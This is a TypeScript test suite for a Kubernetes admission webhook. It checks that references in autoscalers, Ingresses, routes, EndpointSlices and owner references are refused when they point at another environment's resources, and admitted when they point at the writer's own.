// What an object points at (rules/reference-scope.ts, object-references.ts): every reference the
// kind table lists, and any new object's controller reference, names only what its writer's
// environment may use; a service account's stamps say whose credential it is; a custom
// resource's /scale is refused where whose it is cannot be known. Each attack tried as beta
// and as a principal of no environment, beside alpha's own use of the same reference.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { decide, type Webhook } from '../src/admission/decide.js';
import type { KubeObject, UserInfo } from '../src/admission/types.js';
import type { ConfigInput } from '../src/config/schema.js';
import { followUpLookups, gatherLookups, lookupKey, lookupsNeeded, planLookups, type LookupKey } from '../src/policy/lookup.js';
import { createCachedReader } from '../src/kube/cached-reader.js';
import { createMetrics } from '../src/observability/metrics.js';
import { fakeCache, fakeLive } from './cache-fakes.js';
import { controllerRefOf } from '../src/policy/controller-made.js';
import type { Lookup, ObjectLookup } from '../src/policy/policy.js';
import { changedReferences, objectReferences, referenceReads } from '../src/policy/object-references.js';
import type { ReviewScope } from '../src/policy/review-scope.js';
import { FIXTURE_KEYS, fixture, NOW, stampedMetadata, testContext, type Review, NO_READERS } from './helpers.js';
import { ADMIN, RUNNER_A, RUNNER_B } from './validate-helpers.js';

const POLICY: ConfigInput = {
  environments: [
    { id: 'alpha', serviceAccounts: ['sandbox-a:runner'], namespaces: ['sandbox-a'] },
    { id: 'beta', serviceAccounts: ['sandbox-b:*'] },
    // A runner's account in a namespace it shares with others, kept by its manager.
    { id: 'gamma', serviceAccounts: ['shared:runner-gamma'], managers: { users: ['system:serviceaccount:platform:runner-controller'] } },
  ],
  platform: { users: ['system:serviceaccount:argocd:argocd-application-controller'], groups: [] },
};
const NONE: UserInfo = { username: 'stranger', groups: ['system:authenticated'], extra: {} };
const ARGO: UserInfo = { username: 'system:serviceaccount:argocd:argocd-application-controller', groups: ['system:serviceaccounts', 'system:authenticated'], extra: {} };
const NS = 'shared';

interface Gvr {
  group: string;
  version: string;
  resource: string;
  kind: string;
}
const HPA: Gvr = { group: 'autoscaling', version: 'v2', resource: 'horizontalpodautoscalers', kind: 'HorizontalPodAutoscaler' };
const INGRESS: Gvr = { group: 'networking.k8s.io', version: 'v1', resource: 'ingresses', kind: 'Ingress' };
const SLICE: Gvr = { group: 'discovery.k8s.io', version: 'v1', resource: 'endpointslices', kind: 'EndpointSlice' };
const ENDPOINTS: Gvr = { group: '', version: 'v1', resource: 'endpoints', kind: 'Endpoints' };
const PODS: Gvr = { group: '', version: 'v1', resource: 'pods', kind: 'Pod' };
const JOBS: Gvr = { group: 'batch', version: 'v1', resource: 'jobs', kind: 'Job' };
const SERVICE_ACCOUNTS: Gvr = { group: '', version: 'v1', resource: 'serviceaccounts', kind: 'ServiceAccount' };
const CONFIGMAPS_: Gvr = { group: '', version: 'v1', resource: 'configmaps', kind: 'ConfigMap' };
const VMS: Gvr = { group: 'labs.example.com', version: 'v1', resource: 'virtualmachines', kind: 'VirtualMachine' };
const HTTPROUTES: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1', resource: 'httproutes', kind: 'HTTPRoute' };
const GRPCROUTES: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1', resource: 'grpcroutes', kind: 'GRPCRoute' };
const TCPROUTES: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1alpha2', resource: 'tcproutes', kind: 'TCPRoute' };
const TLSROUTES: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1alpha2', resource: 'tlsroutes', kind: 'TLSRoute' };
const UDPROUTES: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1alpha2', resource: 'udproutes', kind: 'UDPRoute' };
const GATEWAYS: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1', resource: 'gateways', kind: 'Gateway' };
const BACKEND_TLS: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1', resource: 'backendtlspolicies', kind: 'BackendTLSPolicy' };
const LISTENER_SETS: Gvr = { group: 'gateway.networking.k8s.io', version: 'v1', resource: 'listenersets', kind: 'ListenerSet' };
const X_LISTENER_SETS: Gvr = { group: 'gateway.networking.x-k8s.io', version: 'v1alpha1', resource: 'xlistenersets', kind: 'XListenerSet' };
const VPAS: Gvr = { group: 'autoscaling.k8s.io', version: 'v1', resource: 'verticalpodautoscalers', kind: 'VerticalPodAutoscaler' };
const SCALED_OBJECTS: Gvr = { group: 'keda.sh', version: 'v1alpha1', resource: 'scaledobjects', kind: 'ScaledObject' };
const ROLLOUTS: Gvr = { group: 'argoproj.io', version: 'v1alpha1', resource: 'rollouts', kind: 'Rollout' };
const CERTIFICATES: Gvr = { group: 'cert-manager.io', version: 'v1', resource: 'certificates', kind: 'Certificate' };
const CERTIFICATE_REQUESTS: Gvr = { group: 'cert-manager.io', version: 'v1', resource: 'certificaterequests', kind: 'CertificateRequest' };
const ISSUERS: Gvr = { group: 'cert-manager.io', version: 'v1', resource: 'issuers', kind: 'Issuer' };
const TRIGGER_AUTHS: Gvr = { group: 'keda.sh', version: 'v1alpha1', resource: 'triggerauthentications', kind: 'TriggerAuthentication' };
const SCALED_JOBS: Gvr = { group: 'keda.sh', version: 'v1alpha1', resource: 'scaledjobs', kind: 'ScaledJob' };
const EXTERNAL_SECRETS: Gvr = { group: 'external-secrets.io', version: 'v1', resource: 'externalsecrets', kind: 'ExternalSecret' };
const PUSH_SECRETS: Gvr = { group: 'external-secrets.io', version: 'v1alpha1', resource: 'pushsecrets', kind: 'PushSecret' };
const SECRET_STORES: Gvr = { group: 'external-secrets.io', version: 'v1', resource: 'secretstores', kind: 'SecretStore' };
const ECR_TOKENS: Gvr = { group: 'generators.external-secrets.io', version: 'v1alpha1', resource: 'ecrauthorizationtokens', kind: 'ECRAuthorizationToken' };
const VAULT_DYNAMIC: Gvr = { group: 'generators.external-secrets.io', version: 'v1alpha1', resource: 'vaultdynamicsecrets', kind: 'VaultDynamicSecret' };

const apiVersion = (g: Gvr) => (g.group === '' ? g.version : `${g.group}/${g.version}`);

/** An object of environment `env` (stamps that verify), as the cluster holds it, with a uid. */
function owned(kind: string, env: string, uid = `${kind}-uid`): KubeObject {
  const m = stampedMetadata(kind, env, NS);
  return { metadata: { ...m.metadata, uid } };
}

/** `resource/namespace/name` to the object, null for absent, a string for unknown; anything not listed is unknown. Every read is recorded. */
function lookupOf(objects: Record<string, KubeObject | null | string>): ObjectLookup & { reads: Set<string> } {
  const reads = new Set<string>();
  return {
    reads,
    readers: NO_READERS,
    get(resource, namespace, name): Lookup {
      const key = lookupKey({ resource, namespace, name });
      reads.add(key);
      if (!Object.hasOwn(objects, key)) return { state: 'unknown', reason: 'not in the test table' };
      const value = objects[key];
      if (typeof value === 'string') return { state: 'unknown', reason: value };
      if (value === null || value === undefined) return { state: 'absent' };
      const controller = controllerRefOf(value.metadata.ownerReferences);
      return { state: 'found', metadata: value.metadata, ...(controller !== undefined ? { controller } : {}) };
    },
  };
}

/** Unstamped, made by a controller for pod `pod` (uid `uid`): a ResourceClaim from its template, an ephemeral volume's claim. */
const madeFor = (pod: string, uid: string): KubeObject => ({ metadata: { uid: `${pod}-made`, ownerReferences: [{ apiVersion: 'v1', kind: 'Pod', name: pod, uid, controller: true, blockOwnerDeletion: true }] } });

const CLUSTER: Record<string, KubeObject | null | string> = {
  'deployments/shared/alpha-web': owned('Deployment', 'alpha'),
  'deployments/shared/beta-web': owned('Deployment', 'beta'),
  'deployments/shared/platform-web': { metadata: { uid: 'p-uid' } },
  'deployments/shared/gone': null,
  'services/shared/alpha-svc': owned('Service', 'alpha'),
  'services/shared/beta-svc': owned('Service', 'beta'),
  'services/shared/slow-svc': 'timed out after 2000 ms',
  'jobs/shared/alpha-job': owned('Job', 'alpha', 'alpha-job-uid'),
  'cronjobs/shared/alpha-cron': owned('CronJob', 'alpha', 'alpha-cron-uid'),
  'serviceaccounts/shared/alpha-sa': owned('ServiceAccount', 'alpha'),
  'resourceclaims/shared/alpha-gpu': owned('ResourceClaim', 'alpha'),
  'secrets/shared/alpha-tls': owned('Secret', 'alpha'),
  'secrets/shared/beta-tls': owned('Secret', 'beta'),
  'services/shared/platform-svc': { metadata: { uid: 'platform-svc-uid' } },
  // The namespace's Gateway, the platform's (unstamped), and the environments' own.
  'gateways/shared/shared-gw': { metadata: { uid: 'shared-gw-uid' } },
  'gateways/shared/alpha-gw': owned('Gateway', 'alpha'),
  'gateways/shared/beta-gw': owned('Gateway', 'beta'),
  'gateways/shared/gone-gw': null,
  'gateways/sandbox-a/alpha-edge': stampedMetadata('Gateway', 'alpha', 'sandbox-a'),
  'gateways/sandbox-a/gone-gw': null,
  'listenersets/shared/alpha-ls': owned('ListenerSet', 'alpha'),
  // Ingresses an ACME HTTP01 solver may name: cert-manager adds its challenge path to the one named.
  'ingresses/shared/alpha-web': owned('Ingress', 'alpha'),
  'ingresses/shared/beta-web': owned('Ingress', 'beta'),
  'ingresses/shared/platform-web': { metadata: { uid: 'platform-web-uid' } },
  'ingresses/shared/gone-web': null,
  'listenersets/shared/beta-ls': owned('ListenerSet', 'beta'),
  // In alpha's bound namespace: stamped there, and unstamped (the binding's).
  'services/sandbox-a/alpha-api': stampedMetadata('Service', 'alpha', 'sandbox-a'),
  'services/sandbox-a/alpha-plain': { metadata: { uid: 'alpha-plain-uid' } },
  'secrets/sandbox-a/alpha-cert': stampedMetadata('Secret', 'alpha', 'sandbox-a'),
  // cert-manager's Issuers: alpha's CA, beta's, the platform's (unstamped), one not made yet.
  'issuers/shared/alpha-ca': owned('Issuer', 'alpha'),
  'issuers/shared/beta-ca': owned('Issuer', 'beta'),
  'issuers/shared/platform-ca': { metadata: { uid: 'platform-ca-uid' } },
  'issuers/shared/gone-ca': null,
  'issuers/sandbox-a/gone-ca': null,
  // A Certificate's Secret that cert-manager has not made yet.
  'secrets/shared/new-tls': null,
  'secrets/shared/new-account': null,
  'configmaps/shared/alpha-settings': owned('ConfigMap', 'alpha'),
  'triggerauthentications/shared/alpha-auth': owned('TriggerAuthentication', 'alpha'),
  'triggerauthentications/shared/beta-auth': owned('TriggerAuthentication', 'beta'),
  'secretstores/shared/alpha-vault': owned('SecretStore', 'alpha'),
  'secretstores/shared/beta-vault': owned('SecretStore', 'beta'),
  'ecrauthorizationtokens/shared/alpha-ecr': owned('ECRAuthorizationToken', 'alpha'),
  'ecrauthorizationtokens/shared/beta-ecr': owned('ECRAuthorizationToken', 'beta'),
  'passwords/shared/beta-password': owned('Password', 'beta'),
  'analysistemplates/shared/alpha-check': owned('AnalysisTemplate', 'alpha'),
  'analysistemplates/shared/beta-check': owned('AnalysisTemplate', 'beta'),
  'analysistemplates/shared/platform-check': { metadata: { uid: 'platform-check-uid' } },
  'secrets/shared/db-creds': null,
  // An operator's output for an environment (cert-manager's, External Secrets'), made as a platform principal: unstamped.
  'secrets/shared/operator-made': { metadata: { uid: 'operator-made-uid' } },
  'secrets/sandbox-a/alpha-plain-tls': { metadata: { uid: 'alpha-plain-tls-uid' } },
  'resourceclaims/shared/beta-gpu': owned('ResourceClaim', 'beta'),
  // ResourceClaimTemplates: alpha's (its device configuration: alpha's network), beta's, the platform's (unstamped), none under `gpu`.
  'resourceclaimtemplates/shared/alpha-net': owned('ResourceClaimTemplate', 'alpha'),
  'resourceclaimtemplates/shared/beta-net': owned('ResourceClaimTemplate', 'beta'),
  'resourceclaimtemplates/shared/platform-net': { metadata: { uid: 'platform-net-uid' } },
  'resourceclaimtemplates/shared/gpu': null,
  'resourceclaimtemplates/shared/slow-net': 'timed out after 2000 ms',
  'resourceclaimtemplates/sandbox-a/gpu': null,
  'serviceaccounts/shared/plain-sa': { metadata: { uid: 'plain' } },
  'serviceaccounts/shared/slow-sa': 'timed out after 2000 ms',
  // Pods that run as alpha-sa: alpha's own, and two that kept the name from before alpha created it.
  'pods/shared/alpha-bot': { ...owned('Pod', 'alpha'), spec: { serviceAccountName: 'alpha-sa' } } as KubeObject,
  'pods/shared/beta-bot': { ...owned('Pod', 'beta'), spec: { serviceAccountName: 'alpha-sa' } } as KubeObject,
  'pods/shared/stranger-bot': { metadata: { uid: 'stranger-bot-uid' }, spec: { serviceAccountName: 'alpha-sa' } } as KubeObject,
  'pods/shared/slow-bot': 'timed out after 2000 ms',
  'pods/shared/gone-bot': null,
  // Claims the resourceclaim and ephemeral volume controllers made for pods: unstamped, each pod's own.
  'resourceclaims/shared/alpha-bot-gpu-x7k2q': madeFor('alpha-bot', 'Pod-uid'),
  'resourceclaims/shared/stranger-bot-gpu-p9d4m': madeFor('stranger-bot', 'stranger-bot-uid'),
  'resourceclaims/shared/gone-bot-gpu-aaaaa': madeFor('gone-bot', 'gone-uid'),
  'resourceclaims/shared/old-bot-gpu-bbbbb': madeFor('alpha-bot', 'an-earlier-pod-uid'),
  'resourceclaims/shared/slow-bot-gpu-ccccc': madeFor('slow-bot', 'slow-uid'),
  'persistentvolumeclaims/shared/alpha-bot-scratch': madeFor('alpha-bot', 'Pod-uid'),
};

interface Options {
  operation?: 'CREATE' | 'UPDATE';
  old?: Record<string, unknown>;
  subResource?: string;
  name?: string;
  namespace?: string;
  dryRun?: boolean;
  requestKind?: { group: string; version: string; kind: string };
}

function review(g: Gvr, userInfo: UserInfo, object: Record<string, unknown>, o: Options = {}): Review {
  const body = fixture('validate-create-pod-by-runner.json');
  const namespace = o.namespace ?? NS;
  const name = o.name ?? 'obj';
  const gvk = o.requestKind ?? { group: g.group, version: g.version, kind: g.kind };
  const gvr = { group: g.group, version: g.version, resource: g.resource };
  const obj = { apiVersion: o.requestKind ? `${o.requestKind.group}/${o.requestKind.version}` : apiVersion(g), kind: gvk.kind, ...object, metadata: { name, namespace, ...((object.metadata as object) ?? {}) } };
  const operation = o.operation ?? 'CREATE';
  body.request = {
    ...body.request,
    kind: gvk,
    requestKind: gvk,
    resource: gvr,
    requestResource: gvr,
    namespace,
    name,
    userInfo,
    operation,
    dryRun: o.dryRun === true,
    object: obj,
    oldObject: o.old ? { ...obj, ...o.old, metadata: obj.metadata } : null,
    ...(o.subResource ? { subResource: o.subResource, requestSubResource: o.subResource } : { subResource: undefined, requestSubResource: undefined }),
  };
  return body;
}

function answer(webhook: Webhook, body: Review, lookup: ObjectLookup = lookupOf(CLUSTER)) {
  const d = decide(webhook, body, testContext(POLICY, NOW, undefined, lookup));
  if (d.kind !== 'review') throw new Error(d.message);
  return d.response.response;
}

/** CREATEs go to /admit (stamped and judged whole, as the install sends them), the rest to /validate. */
const webhookOf = (body: Review): Webhook => (body.request.operation === 'CREATE' && body.request.subResource === undefined ? 'admit' : 'validate');

function refused(body: Review, rule: string, pattern?: RegExp): string {
  const r = answer(webhookOf(body), body);
  assert.equal(r.allowed, false, `expected a denial by ${rule}`);
  assert.ok(r.status?.message?.includes(`[${rule}]`), r.status?.message);
  if (pattern) assert.match(r.status!.message!, pattern);
  return r.status!.message!;
}

function admitted(body: Review, lookup?: ObjectLookup): string[] {
  const r = answer(webhookOf(body), body, lookup);
  assert.equal(r.allowed, true, r.status?.message);
  return r.warnings ?? [];
}

const hpa = (kind: string, name: string, group = 'apps/v1') => ({ spec: { scaleTargetRef: { apiVersion: group, kind, name }, minReplicas: 1, maxReplicas: 3 } });
const ingress = (service: string) => ({ spec: { rules: [{ host: 'lab.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: service, port: { number: 80 } } } }] } }] } });
const slice = (service: string) => ({ metadata: { labels: { 'kubernetes.io/service-name': service } }, addressType: 'IPv4', endpoints: [{ addresses: ['10.0.0.9'] }] });
/** An HTTPRoute (or GRPCRoute, TCPRoute) attached to the namespace's shared Gateway, with one rule of these backendRefs (`{name}` alone: Service, as defaulted). */
const route = (...backends: Array<Record<string, unknown>>) => ({ spec: { parentRefs: [{ name: 'shared-gw' }], hostnames: ['beta.example.com'], rules: [{ backendRefs: backends.map((b) => ({ port: 80, ...b })) }] } });
const mirrored = (backend: string, mirror: Record<string, unknown>) => ({ spec: { parentRefs: [{ name: 'shared-gw' }], rules: [{ filters: [{ type: 'RequestMirror', requestMirror: { backendRef: { port: 80, ...mirror } } }], backendRefs: [{ name: backend, port: 80 }] }] } });
/** A route attached to these parents (`{name}` alone: a Gateway, as defaulted) that redirects alpha's host's /login elsewhere: no backend to judge. */
const attached = (...parents: Array<Record<string, unknown>>) => ({ spec: { parentRefs: parents, hostnames: ['alpha.example.com'], rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/login' } }], filters: [{ type: 'RequestRedirect', requestRedirect: { hostname: 'beta.example.com' } }] }] } });
const gateway = (...certificateRefs: Array<Record<string, unknown>>) => ({ spec: { gatewayClassName: 'shared', listeners: [{ name: 'https', protocol: 'HTTPS', port: 443, hostname: 'beta.example.com', tls: { mode: 'Terminate', certificateRefs } }] } });
/** A workload reference as the HPA's: `{apiVersion, kind, name}`. */
const target = (name: string, kind = 'Deployment', apiVersion = 'apps/v1') => ({ apiVersion, kind, name });
/** A VPA that holds its target's pods to at least 64 CPUs. */
const vpa = (targetRef: Record<string, unknown>) => ({ spec: { targetRef, updatePolicy: { updateMode: 'Recreate' }, resourcePolicy: { containerPolicies: [{ containerName: '*', minAllowed: { cpu: '64' } }] } } });
const scaledObject = (scaleTargetRef: Record<string, unknown>) => ({ spec: { scaleTargetRef, minReplicaCount: 0, triggers: [{ type: 'cron', metadata: { timezone: 'Etc/UTC', start: '0 0 * * *', end: '1 0 * * *', desiredReplicas: '1' } }] } });
const rollout = (workloadRef: Record<string, unknown>) => ({ spec: { replicas: 1, selector: { matchLabels: { app: 'web' } }, workloadRef, strategy: { canary: { steps: [{ setWeight: 20 }] } } } });
const controlledBy = (kind: string, name: string, uid: string, group = 'batch/v1') => ({ ownerReferences: [{ apiVersion: group, kind, name, uid, controller: true }] });
const pod = (meta: Record<string, unknown> = {}, spec: Record<string, unknown> = {}) => ({ metadata: meta, spec: { containers: [{ name: 'main', image: 'registry.example/agent:1' }], ...spec } });

describe('what an object points at is its writer environment\'s to use', () => {
  test("beta's HorizontalPodAutoscaler aimed at alpha's Deployment is refused, naming the field and who would act on it", () => {
    refused(review(HPA, RUNNER_B, hpa('Deployment', 'alpha-web')), 'reference.cross-environment', /spec\.scaleTargetRef: names Deployment alpha-web, which belongs to another environment \(the horizontal-pod-autoscaler controller writes the target's \/scale\); environment "beta" may not/);
  });

  test("what a reference names is read from the API server, not the lookup cache: its follower acts on it at once, so beta's HPA and Ingress do not reach alpha's Deployment and Secret made under names the cache still holds as beta's", async () => {
    const policy = testContext(POLICY).policy;
    const autoscaler = review(HPA, RUNNER_B, hpa('Deployment', 'web'));
    const tls = review(INGRESS, RUNNER_B, { spec: { tls: [{ hosts: ['beta.example.com'], secretName: 'tls' }], ...ingress('beta-svc').spec } });
    assert.deepEqual(planLookups(autoscaler, 'admit', FIXTURE_KEYS, policy).lookups.filter((k) => k.resource === 'deployments'), [{ resource: 'deployments', namespace: NS, name: 'web', fresh: true }]);
    // The cache still holds beta's Deployment and Secret under the names; beta deleted them and alpha made its own there.
    const cache = fakeCache(
      {
        [lookupKey({ resource: 'deployments', namespace: NS, name: 'web' })]: { ...owned('Deployment', 'beta', 'web-beta').metadata, uid: 'web-beta', deleting: false },
        [lookupKey({ resource: 'secrets', namespace: NS, name: 'tls' })]: { ...owned('Secret', 'beta', 'tls-beta').metadata, uid: 'tls-beta', deleting: false },
      },
      { inScope: [NS], current: ['deployments', 'secrets'] },
    );
    const live = fakeLive({
      [lookupKey({ resource: 'deployments', namespace: NS, name: 'web' })]: { state: 'found', metadata: owned('Deployment', 'alpha', 'web-alpha').metadata },
      [lookupKey({ resource: 'secrets', namespace: NS, name: 'tls' })]: { state: 'found', metadata: owned('Secret', 'alpha', 'tls-alpha').metadata },
      [lookupKey({ resource: 'services', namespace: NS, name: 'beta-svc' })]: { state: 'found', metadata: owned('Service', 'beta').metadata },
    });
    for (const [body, pattern] of [
      [autoscaler, /spec\.scaleTargetRef: names Deployment web, which belongs to another environment/],
      [tls, /spec\.tls\[0\]\.secretName: names Secret tls, which belongs to another environment/],
    ] as const) {
      const reader = createCachedReader(cache, live, 'deed.dev', createMetrics());
      const found = await gatherLookups(lookupsNeeded(body.request, webhookOf(body), FIXTURE_KEYS, policy), (keys) => reader.read(keys, 1000), policy);
      const r = answer(webhookOf(body), body, found);
      assert.equal(r.allowed, false, 'judged on what stands under the name now');
      assert.match(r.status?.message ?? '', pattern);
    }
  });

  test("alpha's HorizontalPodAutoscaler of its own Deployment is admitted, and beta's of its own", () => {
    admitted(review(HPA, RUNNER_A, hpa('Deployment', 'alpha-web')));
    admitted(review(HPA, RUNNER_B, hpa('Deployment', 'beta-web')));
  });

  test('a principal of no environment may aim one at an unstamped Deployment but not at alpha\'s', () => {
    admitted(review(HPA, NONE, hpa('Deployment', 'platform-web')));
    refused(review(HPA, NONE, hpa('Deployment', 'alpha-web')), 'reference.cross-environment', /stranger acts for no environment and may not/);
  });

  test("beta may not have the platform's unstamped objects changed by a follower it points at them (rev-88): an HPA, a VPA, a ScaledObject or a Rollout at its Deployment, an EndpointSlice at its Service; a principal of no environment may", () => {
    const platform = /names Deployment platform-web, which carries no stamps in a namespace bound to no environment: it is the platform's \(.*\); system:serviceaccount:sandbox-b:runner acts for "beta" and may not have it changed, as it may not change it itself \(guard\.shared-input\)/;
    refused(review(HPA, RUNNER_B, hpa('Deployment', 'platform-web')), 'reference.cross-environment', platform);
    refused(review(VPAS, RUNNER_B, vpa(target('platform-web'))), 'reference.cross-environment', platform);
    refused(review(SCALED_OBJECTS, RUNNER_B, scaledObject(target('platform-web'))), 'reference.cross-environment', platform);
    refused(review(ROLLOUTS, RUNNER_B, rollout(target('platform-web'))), 'reference.cross-environment', platform);
    refused(review(SLICE, RUNNER_B, slice('platform-svc')), 'reference.cross-environment', /names Service platform-svc, which carries no stamps .*kube-proxy sends the Service's traffic to its endpoints/);
    // Publishing the platform's Service on beta's own routes changes nothing of it.
    admitted(review(INGRESS, RUNNER_B, ingress('platform-svc')));
    admitted(review(SLICE, NONE, slice('platform-svc')));
  });

  test('a scale target that does not exist is refused, and on a dry run is a warning that the real create needs it first', () => {
    refused(review(HPA, RUNNER_B, hpa('Deployment', 'gone')), 'reference.absent', /names Deployment gone, which does not exist; create it first/);
    const warnings = admitted(review(HPA, RUNNER_B, hpa('Deployment', 'gone'), { dryRun: true }));
    assert.ok(warnings.some((w) => w.includes('reference.absent') && w.includes('the real create needs it first')), warnings.join('\n'));
  });

  test("a scale target of a kind Deed does not read comes only from the platform's principals", () => {
    refused(review(HPA, RUNNER_B, hpa('Rollout', 'web', 'argoproj.io/v1alpha1')), 'reference.unknown', /names Rollout web \(argoproj\.io\), a kind Deed does not read/);
    admitted(review(HPA, ARGO, hpa('Rollout', 'web', 'argoproj.io/v1alpha1')));
  });

  test('a target Deed cannot read now is refused (fail closed)', () => {
    refused(review(INGRESS, RUNNER_B, ingress('slow-svc')), 'reference.unknown', /cannot tell which environment Service slow-svc belongs to: timed out after 2000 ms/);
  });

  test("an UPDATE that retargets beta's autoscaler to alpha's Deployment is refused; one that leaves the target reads nothing", () => {
    refused(review(HPA, RUNNER_B, hpa('Deployment', 'alpha-web'), { operation: 'UPDATE', old: hpa('Deployment', 'beta-web') }), 'reference.cross-environment');
    const lookup = lookupOf({});
    const body = review(HPA, RUNNER_B, { spec: { ...hpa('Deployment', 'beta-web').spec, maxReplicas: 5 } }, { operation: 'UPDATE', old: hpa('Deployment', 'beta-web') });
    body.request.oldObject.metadata = { ...body.request.oldObject.metadata, ...owned('HorizontalPodAutoscaler', 'beta').metadata };
    body.request.object.metadata = body.request.oldObject.metadata;
    assert.equal(answer('validate', body, lookup).allowed, true);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('deployments/')), []);
  });

  test("beta's Ingress that publishes alpha's Service is refused at the backend's path; alpha's own is admitted", () => {
    refused(review(INGRESS, RUNNER_B, ingress('alpha-svc')), 'reference.cross-environment', /spec\.rules\[0\]\.http\.paths\[0\]\.backend\.service\.name: names Service alpha-svc, which belongs to another environment \(the ingress controller publishes the Service on its routes\)/);
    admitted(review(INGRESS, RUNNER_A, ingress('alpha-svc')));
  });

  test("beta's Ingress that would serve alpha's TLS certificate and key is refused; alpha's is admitted", () => {
    const tls = (secret: string) => ({ spec: { tls: [{ hosts: ['lab.example.com'], secretName: secret }], ...ingress('beta-svc').spec } });
    refused(review(INGRESS, RUNNER_B, tls('alpha-tls')), 'reference.cross-environment', /spec\.tls\[0\]\.secretName: names Secret alpha-tls, which belongs to another environment \(the ingress controller serves the Secret's certificate and key for its hosts\)/);
    admitted(review(INGRESS, RUNNER_A, { spec: { tls: [{ secretName: 'alpha-tls' }], ...ingress('alpha-svc').spec } }));
  });

  test("beta's EndpointSlice that joins alpha's Service is refused; one for its own Service is admitted", () => {
    refused(review(SLICE, RUNNER_B, slice('alpha-svc')), 'reference.cross-environment', /metadata\.labels\["kubernetes\.io\/service-name"\]: names Service alpha-svc/);
    admitted(review(SLICE, RUNNER_B, slice('beta-svc')));
  });

  test("beta's Endpoints under the name of alpha's Service is refused", () => {
    refused(review(ENDPOINTS, RUNNER_B, { subsets: [{ addresses: [{ ip: '10.0.0.9' }] }] }, { name: 'alpha-svc' }), 'reference.cross-environment', /metadata\.name: names Service alpha-svc/);
  });

  test("a pod that names alpha's Job as its controller is refused to beta and to a principal of no environment, and admitted to alpha", () => {
    refused(review(PODS, RUNNER_B, pod(controlledBy('Job', 'alpha-job', 'alpha-job-uid'))), 'reference.cross-environment', /the controller reference names Job shared\/alpha-job, which belongs to another environment .*; environment "beta" may not; drop the reference/);
    refused(review(PODS, NONE, pod(controlledBy('Job', 'alpha-job', 'alpha-job-uid'))), 'reference.cross-environment', /stranger acts for no environment/);
    admitted(review(PODS, RUNNER_A, pod(controlledBy('Job', 'alpha-job', 'alpha-job-uid'))));
  });

  test('a controller reference names an owner that exists with that uid: controllers count what carries their uid, whatever kind and name it gives', () => {
    refused(review(PODS, RUNNER_B, pod(controlledBy('Job', 'alpha-job', 'another-uid'))), 'reference.unknown', /names Job shared\/alpha-job with a uid it does not have/);
    // alpha's Job's uid under a name that does not exist, to be renamed later.
    const absent = answer('admit', review(PODS, RUNNER_B, pod(controlledBy('Job', 'no-such-job', 'alpha-job-uid'))), lookupOf({ ...CLUSTER, 'jobs/shared/no-such-job': null }));
    assert.equal(absent.allowed, false);
    assert.match(absent.status?.message ?? '', /\[reference\.absent\] metadata\.ownerReferences: the controller reference names Job shared\/no-such-job, which does not exist/);
    // A kind Kubernetes does not serve in its own workload groups names nothing.
    refused(review(PODS, RUNNER_B, pod(controlledBy('JobX', 'alpha-job', 'alpha-job-uid'))), 'reference.unknown', /names JobX \(batch\/v1\), no kind Kubernetes serves as a controller there/);
  });

  test("beta's pod may not carry the label a Job's generated selector matches unless that Job controls it: the job controller would count, delete and complete alpha's Job with it", () => {
    // An operator's kind Deed does not read, carrying alpha's Job's uid: the job controller compares uids only.
    const mole = pod({ labels: { 'batch.kubernetes.io/controller-uid': 'alpha-job-uid' }, ...controlledBy('TaskRun', 'run-1', 'alpha-job-uid', 'tekton.dev/v1') });
    refused(review(PODS, RUNNER_B, mole), 'reference.unknown', /metadata\.labels\.batch\.kubernetes\.io\/controller-uid: the label batch\.kubernetes\.io\/controller-uid makes this pod one the job controller may count for the Job of uid "alpha-job-uid", but its controller reference gives that uid to another kind/);
    refused(review(PODS, RUNNER_B, pod({ labels: { 'controller-uid': 'alpha-job-uid' } })), 'reference.unknown', /the label controller-uid/);
    // alpha's own pod under its own Job carries it as the job controller writes it.
    admitted(review(PODS, RUNNER_A, pod({ labels: { 'batch.kubernetes.io/controller-uid': 'alpha-job-uid' }, ...controlledBy('Job', 'alpha-job', 'alpha-job-uid') })));
    // Added by an UPDATE, refused too.
    const update = review(PODS, RUNNER_B, pod({ labels: { 'batch.kubernetes.io/controller-uid': 'alpha-job-uid' } }), { operation: 'UPDATE', old: {} });
    update.request.oldObject = { ...update.request.object!, metadata: { ...update.request.object!.metadata, labels: {} } };
    refused(update, 'reference.unknown', /the label batch\.kubernetes\.io\/controller-uid/);
  });

  test("beta's object may not hold alpha's in deletion: an owner reference with blockOwnerDeletion names an owner of the writer's environment, by its own uid", () => {
    const blocking = (name: string, uid: string, o: Record<string, unknown> = {}) => ({ metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Secret', name, uid, blockOwnerDeletion: true, ...o }], finalizers: ['example.com/hold'] }, data: {} });
    const body = review(CONFIGMAPS_, RUNNER_B, blocking('alpha-tls', 'Secret-uid'));
    assert.ok(lookupsNeeded(body.request, 'admit', FIXTURE_KEYS).some((k) => k.resource === 'secrets' && k.name === 'alpha-tls'), 'the owner is in the read plan');
    refused(body, 'reference.cross-environment', /metadata\.ownerReferences\[0\]: blocks the deletion of Secret shared\/alpha-tls, which belongs to another environment/);
    refused(review(CONFIGMAPS_, NONE, blocking('alpha-tls', 'Secret-uid')), 'reference.cross-environment', /stranger acts for no environment and may not/);
    // The garbage collector finds dependents by uid: alpha's uid under another name is alpha's too.
    const beta = answer('admit', review(CONFIGMAPS_, RUNNER_B, blocking('beta-creds', 'Secret-uid')), lookupOf({ ...CLUSTER, 'secrets/shared/beta-creds': owned('Secret', 'beta', 'beta-creds-uid') }));
    assert.equal(beta.allowed, false);
    assert.match(beta.status?.message ?? '', /\[reference\.unknown\] metadata\.ownerReferences\[0\]: blocks the deletion of Secret shared\/beta-creds by a uid it does not have/);
    admitted(review(CONFIGMAPS_, RUNNER_A, blocking('alpha-tls', 'Secret-uid')));
    // Without blockOwnerDeletion the reference holds nothing (the collector deletes the dependent, beta's own), of any kind.
    admitted(review(CONFIGMAPS_, RUNNER_B, blocking('alpha-tls', 'Secret-uid', { blockOwnerDeletion: false })));
